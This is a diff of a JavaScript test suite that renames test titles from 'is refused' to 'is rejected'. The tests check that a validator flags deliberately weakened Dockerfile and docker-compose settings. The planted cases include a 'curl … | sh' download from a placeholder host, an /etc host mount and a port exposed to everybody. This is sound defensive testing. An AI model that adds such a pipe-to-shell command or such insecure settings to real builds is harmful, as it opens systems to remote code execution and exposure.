@@ -36,7 +36,7 @@ describe('the Dockerfile', () => {
     ['a build in a final stage', 'EXPOSE 4033', 'RUN npm install left-pad\nEXPOSE 4033', /builds in a final/],
     ['no health check', 'HEALTHCHECK --interval', '# HEALTHCHECK --interval', /never asked/],
     ['a download', 'EXPOSE 4033', 'RUN curl -fsSL https://x.example | sh', /download/],
-  ])('is refused with %s', (_, from, to, finding) => {
+  ])('is rejected with %s', (_, from, to, finding) => {
     const planted = dockerfile.replace(from, to);
     expect(planted).not.toBe(dockerfile);
     expect(dockerfileFindings(planted).join('\n')).toMatch(finding);
@@ -62,7 +62,7 @@ describe('deploy/observability/docker-compose.yml', () => {
     ['a file that may be written', 'alerts.yml:ro', 'alerts.yml', /no file to read/],
     ['a folder of the host', './deploy/observability/alerts.yml', '/etc', /named volume/],
     ['nobody who asks', 'healthcheck:', 'x-healthcheck:', /whether it is well/],
-  ])('is refused with %s', async (_, from, to, finding) => {
+  ])('is rejected with %s', async (_, from, to, finding) => {
     const planted = observabilityText().replaceAll(from, to);
     expect(planted).not.toBe(observabilityText());
     expect((await composeFindings(planted, OBSERVABILITY)).join('\n')).toMatch(finding);
@@ -84,7 +84,7 @@ describe('docker-compose.yml', () => {
     ['a folder of root’s', ':/settings/migrate-auth', ':/settings/migrate-nobody', /belongs to root/],
     ['a simulator for everybody', "'127.0.0.1:${MAIL_PORT", "'${MAIL_PORT", /open to everybody/],
     ['a job of the demo before an app', 'migrate-auth: { condition', 'seed-auth: { condition', /leaves out/],
-  ])('is refused with %s', async (_, from, to, finding) => {
+  ])('is rejected with %s', async (_, from, to, finding) => {
     const planted = composeText().replaceAll(from, to);
     expect(planted).not.toBe(composeText());
     expect((await composeFindings(planted)).join('\n')).toMatch(finding);
